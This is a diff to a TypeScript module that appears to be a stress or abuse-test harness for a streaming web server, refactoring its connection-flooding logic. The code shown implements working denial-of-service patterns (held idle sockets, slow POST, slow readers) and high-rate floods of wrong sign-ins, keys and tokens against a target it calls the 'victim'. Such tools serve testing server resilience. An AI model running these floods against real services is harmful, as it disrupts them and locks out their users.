@@ -29,12 +29,14 @@ export interface Flood {
   readonly port: number;
   /** Local ones, in turn. */
   readonly addresses: readonly string[];
+  /** Of its process. */
+  readonly niceness: number;
 }
 
 /** What it did so far. */
 export type Counts = Record<'opened' | 'ended' | 'failed' | 'sentBytes' | 'asked' | 'refused' | 'served', number>;
 
-/** All at once would be one burst; a second of opening is none that a victim could rest in. */
+/** Of connections that are opened at first: ten thousand a second. */
 const OPENED_PER_TURN = 100;
 const TURN_MS = 10;
 /** An address that was cut comes again. */
@@ -49,46 +51,53 @@ const UNDER_WAY_MAX = 200;
 /** An answer of a victim that is slow is not waited for longer. */
 const ANSWER_MS = 10_000;
 
-/** Begins; resolves when the first wave has come. It goes on until the process ends. */
-export async function begin(flood: Flood, counts: Counts): Promise<void> {
+/** Begins. It goes on until the process ends. */
+export function begin(flood: Flood, counts: Counts): void {
   const { attack } = flood;
   switch (attack.kind) {
     case 'nothing':
-      return;
+      break;
     case 'pings':
-      return hold(flood, counts, attack.sockets, pings(flood, counts, attack.path));
+      hold(flood, counts, attack.sockets, pings(flood, counts, attack.path));
+      break;
     case 'emptyRtmp':
-      return hold(flood, counts, attack.sockets, emptyRtmp(counts, attack.bytesPerSecond));
+      hold(flood, counts, attack.sockets, emptyRtmp(counts, attack.bytesPerSecond));
+      break;
     case 'idle':
-      return hold(flood, counts, attack.sockets, () => undefined);
+      hold(flood, counts, attack.sockets, () => undefined);
+      break;
     case 'slowPost':
-      return hold(flood, counts, attack.sockets, slowPost(flood, attack.path));
+      hold(flood, counts, attack.sockets, slowPost(flood, attack.path));
+      break;
     case 'slowReaders':
-      return hold(flood, counts, attack.sockets, (socket) => {
+      hold(flood, counts, attack.sockets, (socket) => {
         socket.pause();
         socket.write(`GET ${attack.path} HTTP/1.1\r\nhost: ${flood.host}\r\n\r\n`);
       });
+      break;
     case 'wrongSignIns':
-      return wrongSignIns(flood, counts, attack);
+      wrongSignIns(flood, counts, attack);
+      break;
     case 'wrongRtmpKeys':
-      return repeat(attack.perSecond, (count) => wrongRtmpKey(flood, counts, count));
+      repeat(attack.perSecond, (count) => wrongRtmpKey(flood, counts, count));
+      break;
     case 'wrongTokens':
-      return repeat(attack.perSecond, (count) => wrongToken(flood, counts, attack.path, count));
+      repeat(attack.perSecond, (count) => wrongToken(flood, counts, attack.path, count));
+      break;
     case 'wrongHttpKeys':
-      return wrongHttpKeys(flood, counts, attack.perSecond);
+      wrongHttpKeys(flood, counts, attack.perSecond);
+      break;
   }
 }
 
 /** Keeps so many sockets of each address open, and opens one that was ended again. */
-async function hold(
+function hold(
   { addresses, host, port }: Flood,
   counts: Counts,
   perAddress: number,
   use: (socket: Socket) => void,
-): Promise<void> {
-  const firsts: Promise<void>[] = [];
-  const open = (localAddress: string): Promise<void> => {
-    const { promise, resolve } = Promise.withResolvers<void>();
+): void {
+  const open = (localAddress: string): void => {
     const socket = connect({ host, port, localAddress, noDelay: true });
     socket.on('error', () => {
       counts.failed += 1;
@@ -97,35 +106,29 @@ async function hold(
       counts.opened += 1;
       socket.on('data', () => undefined);
       use(socket);
-      resolve();
     });
     socket.once('close', () => {
       counts.ended += 1;
-      resolve();
-      setTimeout(() => void open(localAddress), AGAIN_MS);
+      setTimeout(() => open(localAddress), AGAIN_MS);
     });
-    return promise;
   };
   const wanted = Array.from({ length: perAddress }, () => addresses).flat();
-  for (let at = 0; at < wanted.length; at += OPENED_PER_TURN) {
-    firsts.push(...wanted.slice(at, at + OPENED_PER_TURN).map(open));
-    await turn();
-  }
-  await Promise.all(firsts);
+  const turns = setInterval(() => {
+    wanted.splice(0, OPENED_PER_TURN).forEach(open);
+    if (wanted.length === 0) clearInterval(turns);
+  }, TURN_MS);
 }
 
-const turn = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, TURN_MS));
-
-/** Calls so often in even turns; the first wave is a second of it. */
-async function repeat(perSecond: number, once: (count: number) => void): Promise<void> {
+/** Calls so often in even turns. */
+function repeat(perSecond: number, once: (count: number) => void): void {
   const begunMs = performance.now();
   let count = 0;
   setInterval(() => {
+    const dueCount = Math.floor(((performance.now() - begunMs) * perSecond) / 1000);
     // What a slow turn missed is not made up for: the rate is a bound.
-    const due = Math.min(((performance.now() - begunMs) * perSecond) / 1000 - count, (perSecond * 5 * TURN_MS) / 1000);
-    for (let at = 0; at < due; at += 1) once(count++);
+    const atOnceMax = Math.ceil((perSecond * 5 * TURN_MS) / 1000);
+    for (count = Math.max(count, dueCount - atOnceMax); count < dueCount; count += 1) once(count);
   }, TURN_MS);
-  await new Promise((resolve) => setTimeout(resolve, TRICKLE_MS));
 }
 
 /**
@@ -214,11 +217,11 @@ function slowPost({ host }: Flood, path: string): (socket: Socket) => void {
 }
 
 /** Wrong sign-ins, of the honest person's account and of made-up ones, so many at once. */
-async function wrongSignIns(
+function wrongSignIns(
   { addresses, host, port }: Flood,
   counts: Counts,
   { path, email, atOnce }: Extract<Attack, { kind: 'wrongSignIns' }>,
-): Promise<void> {
+): void {
   for (const localAddress of addresses) {
     const agent = new Agent({ keepAlive: true, maxSockets: atOnce });
     const headers = { 'content-type': 'application/json', origin: `http://${host}:${port}` };
@@ -233,13 +236,12 @@ async function wrongSignIns(
     };
     for (let at = 0; at < atOnce; at += 1) void work();
   }
-  await new Promise((resolve) => setTimeout(resolve, TRICKLE_MS));
 }
 
-function wrongHttpKeys({ addresses, host, port }: Flood, counts: Counts, perSecond: number): Promise<void> {
+function wrongHttpKeys({ addresses, host, port }: Flood, counts: Counts, perSecond: number): void {
   const agent = new Agent({ keepAlive: true, maxSockets: UNDER_WAY_MAX });
   let underWay = 0;
-  return repeat(perSecond, (count) => {
+  repeat(perSecond, (count) => {
     if (underWay >= UNDER_WAY_MAX) return;
     underWay += 1;
     const localAddress = addresses[count % addresses.length] ?? '';
